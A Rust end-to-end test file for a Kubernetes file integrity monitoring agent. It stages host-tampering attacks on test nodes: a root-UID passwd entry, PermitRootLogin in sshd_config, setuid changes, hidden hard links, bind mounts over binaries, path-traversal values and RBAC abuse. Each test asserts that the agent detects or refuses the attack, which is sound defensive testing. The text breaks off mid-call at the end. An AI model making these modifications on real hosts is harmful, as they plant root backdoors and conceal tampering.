//! Attacks on the agent, each against the real agent binary and the real API
//! server, each asserting what a security team sees: a FileChange, an Event, a
//! condition, a metric. The threat model is in the README ("Security model").
#![allow(clippy::expect_used, clippy::panic, clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use k8s_openapi::api::core::v1::Node;
use k8s_openapi::api::events::v1::Event;
use kube::ResourceExt;
use kube::api::{Api, ListParams, Patch, PatchParams, PostParams};
use kube_fim_crds::labels::CLEAR_BASELINE_ALARM;
use kube_fim_crds::{
    ChangeCategory, DetectionSource, FileChange, FileChangeSpec, FileIntegrityNode,
    FileIntegrityPolicy, NodePolicyPhase,
};
use kube_fim_e2e::fleet::{Fleet, describe, entry};
use kube_fim_e2e::operator::Operator;
use kube_fim_e2e::{client, eventually, http_get, kubectl, metric, unique_name};

const READY: Duration = Duration::from_secs(60);
const SEEN: Duration = Duration::from_secs(20);
/// What an operator started by the test says: its first pass waits for its
/// caches, which under the whole suite's load on two cores took up to 40 s.
const OPERATOR: Duration = Duration::from_secs(90);

/// Waits for a FileChange `Category path` on `node`; returns it.
async fn wait_change(fleet: &Fleet, node: &str, want: &str) -> FileChange {
    eventually(&format!("{want} on {node}"), SEEN, || async {
        let changes = fleet.changes(node).await;
        changes
            .iter()
            .find(|c| describe(c) == want)
            .cloned()
            .ok_or_else(|| format!("{:?}", changes.iter().map(describe).collect::<Vec<_>>()))
    })
    .await
}

/// Warning Events with `reason` whose note mentions `node`.
async fn warnings(client: &kube::Client, reason: &str, node: &str) -> Vec<Event> {
    Api::<Event>::all(client.clone())
        .list(&ListParams::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|e| {
            e.reason.as_deref() == Some(reason)
                && e.type_.as_deref() == Some("Warning")
                && e.note.as_deref().unwrap_or("").contains(node)
        })
        .collect()
}

async fn wait_warning(client: &kube::Client, reason: &str, node: &str) -> Event {
    eventually(&format!("a {reason} warning for {node}"), SEEN, || async {
        warnings(client, reason, node)
            .await
            .into_iter()
            .next()
            .ok_or_else(|| "none yet".to_string())
    })
    .await
}

async fn record(client: &kube::Client, node: &str) -> FileIntegrityNode {
    Api::<FileIntegrityNode>::all(client.clone())
        .get(node)
        .await
        .unwrap()
}

async fn phase(client: &kube::Client, node: &str, policy: &str) -> Option<NodePolicyPhase> {
    record(client, node)
        .await
        .status
        .and_then(|s| s.policies.into_iter().find(|p| p.policy == policy))
        .map(|p| p.phase)
}

/// Cordon, the taints that come with it and a label change in between: the
/// change made while the node was cordoned is reported in real time, and the
/// policy stays Ready throughout.
#[tokio::test]
async fn cordon_never_changes_what_is_monitored() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let run = kubectl(["cordon", a.as_str()]);
    assert!(run.success, "{}", run.stderr);
    // The controller taints a cordoned node; a custom NoSchedule taint too.
    let run = kubectl(["taint", "node", a.as_str(), "dedicated=db:NoSchedule"]);
    assert!(run.success, "{}", run.stderr);
    eventually("the unschedulable taint", SEEN, || async {
        let n = Api::<Node>::all(client.clone()).get(&a).await.unwrap();
        let taints = n.spec.and_then(|s| s.taints).unwrap_or_default();
        taints
            .iter()
            .any(|t| t.key == "node.kubernetes.io/unschedulable")
            .then_some(())
            .ok_or_else(|| format!("{taints:?}"))
    })
    .await;
    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.66 evil\n").unwrap();
    let c = wait_change(&fleet, &a, "Modified /etc/hosts").await;
    assert_eq!(c.spec.source, DetectionSource::Realtime);
    assert_eq!(
        phase(&client, &a, &policy).await,
        Some(NodePolicyPhase::Ready)
    );

    let run = kubectl(["uncordon", a.as_str()]);
    assert!(run.success, "{}", run.stderr);
    std::fs::write(
        fleet.nodes[0].host("/etc/passwd"),
        "evil:x:0:0::/:/bin/sh\n",
    )
    .unwrap();
    wait_change(&fleet, &a, "Modified /etc/passwd").await;
    assert_eq!(
        fleet.changes(&a).await.len(),
        2,
        "no silent re-baseline, no duplicate"
    );
    fleet.cleanup().await;
}

/// A node whose kubelet stops posting status: the real node lifecycle
/// controller marks it NotReady and taints it unreachable; its agent keeps
/// monitoring and reporting.
#[tokio::test]
async fn a_node_gone_not_ready_keeps_being_monitored() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    fleet.nodes[0].stop_kubelet();
    eventually(
        "the node lifecycle controller taints the node unreachable",
        Duration::from_secs(150),
        || async {
            let n = Api::<Node>::all(client.clone()).get(&a).await.unwrap();
            let taints = n.spec.and_then(|s| s.taints).unwrap_or_default();
            taints
                .iter()
                .any(|t| t.key == "node.kubernetes.io/unreachable")
                .then_some(())
                .ok_or_else(|| format!("{taints:?}"))
        },
    )
    .await;
    std::fs::write(
        fleet.nodes[0].host("/etc/ssh/sshd_config"),
        "PermitRootLogin yes\n",
    )
    .unwrap();
    let c = wait_change(&fleet, &a, "Modified /etc/ssh/sshd_config").await;
    assert_eq!(c.spec.source, DetectionSource::Realtime);
    assert_eq!(
        phase(&client, &a, &policy).await,
        Some(NodePolicyPhase::Ready)
    );
    fleet.cleanup().await;
}

/// A policy that stops selecting a node keeps that node's baseline; selected
/// again, the change made in between is reported with source Startup.
#[tokio::test]
async fn a_policy_that_stops_selecting_a_node_keeps_its_baseline() {
    let client = client().await;
    let suite = unique_name("adv");
    let operator = Operator::start(&suite, &suite, &["--resync=2s".to_string()]);
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let nodes: Api<Node> = Api::all(client.clone());
    let relabel = |role: String| {
        let nodes = nodes.clone();
        let a = a.clone();
        async move {
            let patch = serde_json::json!({"metadata": {"labels": {"role": role}}});
            nodes
                .patch(&a, &PatchParams::default(), &Patch::Merge(&patch))
                .await
                .unwrap();
        }
    };
    // The node takes itself out (a kubelet may change unprefixed labels of
    // its own Node): its agent says so, and the security team sees it.
    relabel(format!("{suite}-elsewhere")).await;
    eventually("the policy is no longer served", SEEN, || async {
        match phase(&client, &a, &policy).await {
            Some(NodePolicyPhase::Unselected) => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    let policies: Api<FileIntegrityPolicy> = Api::all(client.clone());
    eventually(
        "the policy Degraded: NodeLeftMonitoring",
        OPERATOR,
        || async {
            let p = policies.get(&policy).await.map_err(|e| e.to_string())?;
            let s = p.status.unwrap_or_default();
            let d = s.conditions.iter().find(|c| c.type_ == "Degraded");
            match d {
                Some(d)
                    if d.status == "True"
                        && d.reason == "NodeLeftMonitoring"
                        && d.message.contains(&a)
                        && s.nodes_left == Some(1) =>
                {
                    Ok(())
                }
                other => Err(format!("{other:?} left={:?}", s.nodes_left)),
            }
        },
    )
    .await;
    let left = wait_policy_warning(&client, "NodeLeftMonitoring", &policy).await;
    assert!(
        left.note.as_deref().unwrap_or_default().contains(&a),
        "{left:?}"
    );
    let series = format!("kube_fim_operator_policy_nodes{{policy=\"{policy}\",state=\"left\"}}");
    eventually("the left-nodes metric", OPERATOR, || async {
        match operator.metrics().and_then(|m| metric(&m, &series)) {
            Some(1.0) => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await;

    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.66 evil\n").unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    relabel(suite.clone()).await;
    let c = wait_change(&fleet, &a, "Modified /etc/hosts").await;
    assert_eq!(c.spec.source, DetectionSource::Startup);
    assert_eq!(fleet.changes(&a).await.len(), 1);
    eventually("back in monitoring, nobody has left", OPERATOR, || async {
        let p = policies.get(&policy).await.map_err(|e| e.to_string())?;
        match p.status.and_then(|s| s.nodes_left) {
            Some(0) => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    fleet.cleanup().await;
}

/// A Warning Event of `reason` about the policy `policy`.
async fn wait_policy_warning(client: &kube::Client, reason: &str, policy: &str) -> Event {
    eventually(
        &format!("a {reason} Warning about {policy}"),
        OPERATOR,
        || async {
            Api::<Event>::all(client.clone())
                .list(&ListParams::default())
                .await
                .map_err(|e| e.to_string())?
                .items
                .into_iter()
                .find(|e| {
                    e.reason.as_deref() == Some(reason)
                        && e.type_.as_deref() == Some("Warning")
                        && e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(policy)
                })
                .ok_or_else(|| "none yet".to_string())
        },
    )
    .await
}

/// The state directory wiped while the agent is down, a monitored file edited:
/// an alarm (Event, metric, policy Failed) that names the entry and the file,
/// until an admin clears it with a recorded act.
#[tokio::test]
async fn a_wiped_state_directory_is_an_alarm_naming_the_file() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-p");
    fleet
        .create_policy(&fleet.policy(
            &policy,
            vec![
                entry("passwd", "/etc/passwd", false),
                entry("ssh", "/etc/ssh", true),
            ],
        ))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;
    eventually("entry digests published", SEEN, || async {
        let entries = record(&client, &a)
            .await
            .status
            .map(|s| s.entries)
            .unwrap_or_default();
        (entries.len() == 2)
            .then_some(())
            .ok_or(format!("{entries:?}"))
    })
    .await;
    fleet.nodes[0].kill_agent();

    std::fs::write(
        fleet.nodes[0].host("/etc/passwd"),
        "evil:x:0:0::/:/bin/sh\n",
    )
    .unwrap();
    let state = fleet.nodes[0].state.clone();
    for e in std::fs::read_dir(&state).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            std::fs::remove_dir_all(p).unwrap();
        } else {
            std::fs::remove_file(p).unwrap();
        }
    }
    fleet.nodes[0].start_agent();

    wait_warning(&client, "BaselineMissing", &a).await;
    let differ = wait_warning(&client, "BaselineEntriesDiffer", &a).await;
    let note = differ.note.unwrap_or_default();
    assert!(note.contains(&format!("{policy}/passwd")), "{note}");
    assert!(!note.contains(&format!("{policy}/ssh")), "{note}");
    let c = wait_change(&fleet, &a, "Modified /etc/passwd").await;
    assert_eq!(c.spec.source, DetectionSource::Startup);
    assert_eq!(c.spec.category, ChangeCategory::Modified);
    let text = fleet.nodes[0].metrics().unwrap();
    assert_eq!(
        metric(
            &text,
            &format!("kube_fim_agent_baseline_tampered{{node=\"{a}\"}}")
        ),
        Some(1.0)
    );
    let alarm = eventually("policy Failed with the alarm", SEEN, || async {
        let r = record(&client, &a).await;
        let s = r.status.unwrap_or_default();
        match (s.baseline_alarm, s.policies.first().map(|p| p.phase)) {
            (Some(alarm), Some(NodePolicyPhase::Failed)) => Ok(alarm),
            other => Err(format!("{other:?}")),
        }
    })
    .await;
    assert_eq!(alarm.reason, "BaselineMissing");
    // A restart does not clear it.
    fleet.nodes[0].kill_agent();
    fleet.nodes[0].start_agent();
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(
        phase(&client, &a, &policy).await,
        Some(NodePolicyPhase::Failed)
    );

    // The recorded act: an annotation naming the alarm.
    let run = kubectl([
        "annotate".to_string(),
        "fileintegritynode".to_string(),
        a.clone(),
        format!("{CLEAR_BASELINE_ALARM}={}", alarm.id),
    ]);
    assert!(run.success, "{}", run.stderr);
    fleet.wait_ready(&a, &policy, Duration::from_secs(60)).await;
    let text = fleet.nodes[0].metrics().unwrap();
    assert_eq!(
        metric(
            &text,
            &format!("kube_fim_agent_baseline_tampered{{node=\"{a}\"}}")
        ),
        Some(0.0)
    );
    fleet.cleanup().await;
}

/// A FileChange with a malformed escape in its path, acknowledged: the agent
/// of the node it names neither panics nor stalls, and keeps reporting.
#[tokio::test]
async fn a_malformed_change_from_the_api_cannot_stall_the_agent() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-etc");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("etc", "/etc", true)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let api: Api<FileChange> = Api::all(client.clone());
    for (i, path) in [
        "/etc/\\x",
        "/etc/\\xé",
        "/etc/\\x\u{e9}1/\\",
        "/../../etc/passwd",
    ]
    .into_iter()
    .enumerate()
    {
        let mut c = FileChange::new(
            &format!("{a}-malformed-{i}"),
            FileChangeSpec {
                node: a.clone(),
                policy: policy.clone(),
                entry: "etc".into(),
                path: path.into(),
                category: ChangeCategory::Modified,
                changed_attributes: vec![],
                before: None,
                after: None,
                detected_time: k8s_openapi::apimachinery::pkg::apis::meta::v1::MicroTime(
                    k8s_openapi::jiff::Timestamp::now(),
                ),
                source: DetectionSource::Realtime,
                process: None,
                summary: None,
                sequence: None,
                container: None,
            },
        );
        c.metadata.labels = Some(BTreeMap::from([(
            "e2e.kube-fim.io/malformed".to_string(),
            "true".to_string(),
        )]));
        api.create(&PostParams::default(), &c).await.unwrap();
        // Approved, so the agent's approval handler reads it.
        let _ = kube_fim_e2e::approve(&client, &c.name_any(), "malformed").await;
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert!(
        fleet.nodes[0].agent.as_mut().unwrap().running(),
        "the agent is alive"
    );
    std::fs::write(fleet.nodes[0].host("/etc/hosts"), "10.0.0.66 evil\n").unwrap();
    let real = wait_change(&fleet, &a, "Modified /etc/hosts").await;
    assert_eq!(
        http_get(fleet.nodes[0].metrics_port, "/healthz").as_deref(),
        Some("ok")
    );
    // The handler that read the malformed objects still works.
    kube_fim_e2e::approve(&client, &real.name_any(), "expected")
        .await
        .unwrap();
    eventually("a later acknowledgement is applied", SEEN, || async {
        let c = api.get(&real.name_any()).await.map_err(|e| e.to_string())?;
        c.status
            .and_then(|s| s.baseline_updated_time)
            .map(|_| ())
            .ok_or_else(|| "not yet".to_string())
    })
    .await;
    fleet.cleanup().await;
}

/// A hidden directory under a non-recursive entry (`/usr/bin/.x`) is reported.
#[tokio::test]
async fn a_hidden_directory_under_a_non_recursive_entry_is_reported() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    std::fs::create_dir(fleet.nodes[0].host("/usr/bin/.x")).unwrap();
    std::fs::write(fleet.nodes[0].host("/usr/bin/.x/payload"), "\x7fELF").unwrap();
    let c = wait_change(&fleet, &a, "Added /usr/bin/.x").await;
    assert_eq!(
        c.spec.after.and_then(|a| a.file_type),
        Some(kube_fim_crds::FileType::Directory)
    );
    fleet.cleanup().await;
}

/// setuid set, reverted, acknowledged, set again: two FileChanges, not one.
#[tokio::test]
async fn a_recurrence_after_acknowledgement_is_a_new_change() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]))
        .await;
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;
    let tool = fleet.nodes[0].host("/usr/bin/tool");
    let mode =
        |m: u32| std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(m)).unwrap();

    let api: Api<FileChange> = Api::all(client.clone());
    let approve_and_wait = |name: String| {
        let api = api.clone();
        let client = client.clone();
        async move {
            kube_fim_e2e::approve(&client, &name, "expected")
                .await
                .unwrap();
            eventually("the approval is applied", SEEN, || async {
                let c = api.get(&name).await.map_err(|e| e.to_string())?;
                c.status
                    .and_then(|s| s.baseline_updated_time)
                    .map(|_| ())
                    .ok_or_else(|| "not yet".to_string())
            })
            .await;
        }
    };
    // setuid set (approved), reverted (approved), set again: a third report.
    mode(0o4755);
    let first = wait_change(&fleet, &a, "Modified /usr/bin/tool").await;
    approve_and_wait(first.name_any()).await;
    mode(0o644);
    let second = eventually("the revert is reported", SEEN, || async {
        fleet
            .changes(&a)
            .await
            .into_iter()
            .find(|c| describe(c) == "Modified /usr/bin/tool" && c.name_any() != first.name_any())
            .ok_or_else(|| "not yet".to_string())
    })
    .await;
    approve_and_wait(second.name_any()).await;
    mode(0o4755);
    eventually("a second FileChange for the recurrence", SEEN, || async {
        let n = fleet
            .changes(&a)
            .await
            .iter()
            .filter(|c| describe(c) == "Modified /usr/bin/tool")
            .count();
        (n == 3).then_some(()).ok_or(format!("{n}"))
    })
    .await;
    fleet.cleanup().await;
}

/// A second name for a monitored setuid binary, made where no entry looks,
/// shows on the binary itself: its link count, as AIDE shows it.
#[tokio::test]
async fn a_hard_link_to_a_setuid_binary_shows_on_the_binary() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    // A new link changes the file's inode, not its directory: no directory
    // watch hears it, the next full scan (the shortest period here) does.
    let mut p = fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]);
    p.spec.scan_interval = "1m".into();
    fleet.create_policy(&p).await;
    let tool = fleet.nodes[0].host("/usr/bin/tool");
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o4755)).unwrap();
    fleet.nodes[0].start_agent();
    let a = fleet.nodes[0].name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let hidden = fleet.nodes[0].host("/var/tmp/.t");
    std::fs::create_dir_all(hidden.parent().unwrap()).unwrap();
    std::fs::hard_link(&tool, &hidden).unwrap();
    let c = eventually(
        "Modified /usr/bin/tool at the next scan",
        Duration::from_secs(100),
        || async {
            fleet
                .changes(&a)
                .await
                .into_iter()
                .find(|c| describe(c) == "Modified /usr/bin/tool")
                .ok_or_else(|| "not yet".to_string())
        },
    )
    .await;
    assert_eq!(
        c.spec.changed_attributes,
        vec![kube_fim_crds::Attribute::Links]
    );
    assert_eq!(c.spec.before.and_then(|b| b.links), Some(1));
    assert_eq!(c.spec.after.and_then(|a| a.links), Some(2));
    fleet.cleanup().await;
}

/// A bind mount, undone when dropped (even when the test fails).
struct BindMount(std::path::PathBuf);

impl BindMount {
    fn new(source: &std::path::Path, target: &std::path::Path) -> Self {
        let out = std::process::Command::new("mount")
            .arg("--bind")
            .arg(source)
            .arg(target)
            .output()
            .unwrap();
        assert!(out.status.success(), "mount --bind: {out:?}");
        BindMount(target.to_path_buf())
    }
}

impl Drop for BindMount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

/// `mount --bind evil /usr/bin/tool` on the host after the agent started: the
/// agent's own view of the host root is the one of its start, but the host's
/// mount table says what the host reads there now. A FileChange of the tool
/// naming the mount, and a MountedOver Warning Event.
#[tokio::test]
async fn a_mount_over_a_monitored_file_is_seen() {
    let client = client().await;
    let suite = unique_name("adv");
    let mut fleet = Fleet::new(client.clone(), &suite, 1).await;
    let policy = format!("{suite}-bin");
    fleet
        .create_policy(&fleet.policy(&policy, vec![entry("bin", "/usr/bin", false)]))
        .await;
    let node = &mut fleet.nodes[0];
    // The agents of this harness share the test's mount namespace, where the
    // host root is a directory: its table is read from there.
    let root = node.host("/").canonicalize().unwrap();
    node.start_agent_with(&[
        "--mount-table=/proc/self/mountinfo".to_string(),
        format!("--mount-table-root={}", root.display()),
    ]);
    let a = node.name.clone();
    fleet.wait_ready(&a, &policy, READY).await;

    let evil = fleet.nodes[0].host("/var/tmp/evil");
    std::fs::create_dir_all(evil.parent().unwrap()).unwrap();
    std::fs::write(&evil, "#!/bin/sh\necho evil\n").unwrap();
    let mount = BindMount::new(&evil, &fleet.nodes[0].host("/usr/bin/tool"));
    let c = wait_change(&fleet, &a, "Modified /usr/bin/tool").await;
    assert!(
        c.spec
            .changed_attributes
            .contains(&kube_fim_crds::Attribute::Mount),
        "{:?}",
        c.spec.changed_attributes
    );
    // This agent shares the mount namespace it watches, so it also reads the
    // content behind the mount (a pod's view is the one of its start: there
    // the mount is what is reported, until the agent restarts).
    assert_eq!(
        c.spec.after.as_ref().and_then(|a| a.hash.clone()),
        Some(blake3::hash(b"#!/bin/sh\necho evil\n").to_hex().to_string())
    );
    let after = c.spec.after.and_then(|a| a.mount).unwrap();
    assert_eq!(after.mount_point, "/usr/bin/tool");
    assert!(after.root.ends_with("/var/tmp/evil"), "{after:?}");
    let before = c.spec.before.and_then(|b| b.mount).unwrap();
    assert_eq!(before.mount_point, "/");
    let event = wait_warning(&client, "MountedOver", &a).await;
    let note = event.note.unwrap_or_default();
    assert!(
        note.contains("/usr/bin/tool") && note.contains("/var/tmp/evil"),
        "{note}"
    );
    drop(mount);
    fleet.cleanup().await;
}

/// A Node object, for a node-bound agent token (no agent runs).
async fn create_node(client: &kube::Client, name: &str) {
    let mut node = Node::default();
    node.metadata.name = Some(name.to_string());
    Api::<Node>::all(client.clone())
        .create(&PostParams::default(), &node)
        .await
        .unwrap();
}

async fn delete_node(client: &kube::Client, name: &str) {
    let _ = Api::<Node>::all(client.clone())
        .delete(name, &Default::default())
        .await;
}

/// The refusal of `result` as the user sees it; it must name `expected`.
fn assert_refused<T: std::fmt::Debug>(result: Result<T, kube::Error>, expected: &str) {
    match result {
        Ok(v) => panic!("accepted (the attack works): {v:?}"),
        Err(kube::Error::Api(e)) => {
            assert!(
                e.code == 403 || e.code == 422,
                "refused with {}: {}",
                e.code,
                e.message
            );
            assert!(
                e.message.contains(expected),
                "refusal should say {expected:?}: {}",
                e.message
            );
        }
        Err(e) => panic!("not an API refusal: {e}"),
    }
}

/// A ClusterRole with only `verbs` on FileChanges (and their status), bound
/// to ServiceAccount `kube-fim/<sa>`; a client logged in as it.
async fn limited_user(sa: &str, verbs: &str) -> kube::Client {
    let role = format!("kube-fim-e2e-{sa}");
    let run = kubectl([
        "create".to_string(),
        "clusterrole".to_string(),
        role.clone(),
        format!("--verb={verbs}"),
        "--resource=filechanges.fim.kube-fim.io,filechanges.fim.kube-fim.io/status".to_string(),
    ]);
    assert!(
        run.success || run.stderr.contains("AlreadyExists"),
        "{}",
        run.stderr
    );
    kube_fim_e2e::client_for(&kube_fim_e2e::service_account_with_cluster_role(sa, &role)).await
}

/// Issue 21, attack 6: with only get/patch on filechanges, an ownerReference
/// to an object that does not exist would let the garbage collector delete
/// the change. Neither owners nor finalizers can be added after creation, by
/// that user or by a cluster admin; deleting stays a delete.
#[tokio::test]
async fn patch_rights_cannot_make_the_garbage_collector_delete_a_change() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let node = format!("{suite}-a");
    create_node(&admin, &node).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
    let patcher = limited_user("e2e-patcher", "get,patch").await;
    let changes = |c: &kube::Client| Api::<FileChange>::all(c.clone());
    let name = format!("{node}-0123456789abcdef0123");
    changes(&agent)
        .create(
            &PostParams::default(),
            &kube_fim_e2e::file_change(&name, &node, "p"),
        )
        .await
        .expect("the agent reports its own node's change");

    let orphaned = serde_json::json!({"metadata": {"ownerReferences": [{
        "apiVersion": "v1",
        "kind": "Node",
        "name": format!("{suite}-gone"),
        "uid": "6b7c2f4e-0000-4000-8000-000000000021",
    }]}});
    for who in [&patcher, &admin] {
        assert_refused(
            changes(who)
                .patch(&name, &PatchParams::default(), &Patch::Merge(&orphaned))
                .await,
            "metadata.ownerReferences of a FileChange cannot be added or changed after creation",
        );
        assert_refused(
            changes(who)
                .patch(
                    &name,
                    &PatchParams::default(),
                    &Patch::Merge(
                        serde_json::json!({"metadata": {"finalizers": ["e2e.kube-fim.io/hold"]}}),
                    ),
                )
                .await,
            "metadata.finalizers of a FileChange cannot be added or changed after creation",
        );
    }
    // What the security team sees: the change is still there once the
    // garbage collector had its chance.
    tokio::time::sleep(Duration::from_secs(5)).await;
    let kept = changes(&admin)
        .get(&name)
        .await
        .expect("the change is kept");
    assert!(kept.metadata.owner_references.is_none());
    assert!(kept.metadata.finalizers.is_none());
    // Labels stay patchable (filters, not decisions), and deleting (the
    // operator's retention and `evidence: Delete`) is a delete.
    changes(&patcher)
        .patch(
            &name,
            &PatchParams::default(),
            &Patch::Merge(serde_json::json!({"metadata": {"labels": {"team": "ops"}}})),
        )
        .await
        .expect("a label is still a patch");
    changes(&admin)
        .delete(&name, &Default::default())
        .await
        .expect("an admin deletes with delete");
    delete_node(&admin, &node).await;
}

/// Issue 21, attack 8: one node's token cannot take another node's
/// predictable object names, not even of a node whose name starts with its
/// own (`<suite>-a` and `<suite>-a-b`).
#[tokio::test]
async fn a_node_cannot_squat_another_nodes_change_names() {
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let (a, b) = (format!("{suite}-a"), format!("{suite}-a-b"));
    create_node(&admin, &a).await;
    create_node(&admin, &b).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&a)).await;
    let changes = Api::<FileChange>::all(agent.clone());
    let pp = PostParams::default();
    let digest = "89abcdef0123456789ab";

    for squatted in [
        format!("{b}-{digest}"),
        format!("fc-{digest}"),
        digest.to_string(),
    ] {
        assert_refused(
            changes
                .create(&pp, &kube_fim_e2e::file_change(&squatted, &a, "p"))
                .await,
            &format!(
                "metadata.name of an agent's FileChange must be its node's name, a '-', its sequence number and a digest: this token is bound to node {a}, the name is {squatted}"
            ),
        );
    }
    let own = format!("{a}-{digest}");
    changes
        .create(&pp, &kube_fim_e2e::file_change(&own, &a, "p"))
        .await
        .expect("a node reports under its own name");
    // The other node's own name is still free for it.
    let other = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&b)).await;
    Api::<FileChange>::all(other)
        .create(
            &pp,
            &kube_fim_e2e::file_change(&format!("{b}-{digest}"), &b, "p"),
        )
        .await
        .expect("the other node reports under its name");
    let stored: Vec<String> = Api::<FileChange>::all(admin.clone())
        .list(&ListParams::default())
        .await
        .unwrap()
        .items
        .iter()
        .map(|c| c.name_any())
        .filter(|n| n.ends_with(digest))
        .collect();
    let mut want = vec![own.clone(), format!("{b}-{digest}")];
    want.sort();
    let mut stored = stored;
    stored.sort();
    assert_eq!(stored, want);
    for name in want {
        let _ = Api::<FileChange>::all(admin.clone())
            .delete(&name, &Default::default())
            .await;
    }
    delete_node(&admin, &a).await;
    delete_node(&admin, &b).await;
}

/// Issue 21, attack 4 (the cluster half): the node's own token cannot erase
/// its record (baseline digest, entry digests, a raised alarm), and not even
/// a cluster admin removes an alarm except by the recorded act (the
/// annotation naming it).
#[tokio::test]
async fn the_nodes_own_token_cannot_erase_its_record() {
    use kube_fim_crds::{
        BaselineAlarm, EntryDigest, FileIntegrityNodeSpec, FileIntegrityNodeStatus,
        NodePolicyStatus,
    };
    kube_fim_e2e::ensure_crds();
    let admin = client().await;
    let suite = unique_name("adv");
    let node = format!("{suite}-a");
    create_node(&admin, &node).await;
    let agent = kube_fim_e2e::client_for(&kube_fim_e2e::node_bound_kubeconfig(&node)).await;
    let records = |c: &kube::Client| Api::<FileIntegrityNode>::all(c.clone());
    records(&agent)
        .create(
            &PostParams::default(),
            &FileIntegrityNode::new(&node, FileIntegrityNodeSpec { node: node.clone() }),
        )
        .await
        .unwrap();
    let alarm = BaselineAlarm {
        id: format!("{suite}-alarm"),
        reason: "BaselineMissing".into(),
        since: k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(
            k8s_openapi::jiff::Timestamp::now(),
        ),
        message: "the baseline on this node is missing".into(),
    };
    let status = FileIntegrityNodeStatus {
        baseline_digest: Some("a".repeat(64)),
        policies: vec![NodePolicyStatus {
            policy: "p".into(),
            phase: NodePolicyPhase::Failed,
            ..NodePolicyStatus::default()
        }],
        entries: vec![EntryDigest {
            policy: "p".into(),
            entry: "passwd".into(),
            digest: format!("v2-{}", "b".repeat(61)),
            files: 1,
            path: Some("/etc/passwd".into()),
        }],
        baseline_alarm: Some(alarm.clone()),
        ..FileIntegrityNodeStatus::default()
    };
    let pp = PatchParams::default();
    let status_patch = |v: serde_json::Value| Patch::Merge(serde_json::json!({ "status": v }));
    records(&agent)
        .patch_status(
            &node,
            &pp,
            &status_patch(serde_json::to_value(&status).unwrap()),
        )
        .await
        .expect("the agent publishes its digests and raises an alarm");

    for (who, name) in [(&agent, "the agent"), (&admin, "a cluster admin")] {
        eprintln!("as {name}");
        assert_refused(
            records(who)
                .patch_status(
                    &node,
                    &pp,
                    &status_patch(serde_json::json!({"baselineDigest": null})),
                )
                .await,
            "status.baselineDigest cannot be removed once published",
        );
        assert_refused(
            records(who)
                .patch_status(
                    &node,
                    &pp,
                    &status_patch(serde_json::json!({"entries": []})),
                )
                .await,
            "status.entries cannot be emptied once published",
        );
        assert_refused(
            records(who)
                .patch_status(
                    &node,
                    &pp,
                    &status_patch(serde_json::json!({"baselineAlarm": null})),
                )
                .await,
            &format!(
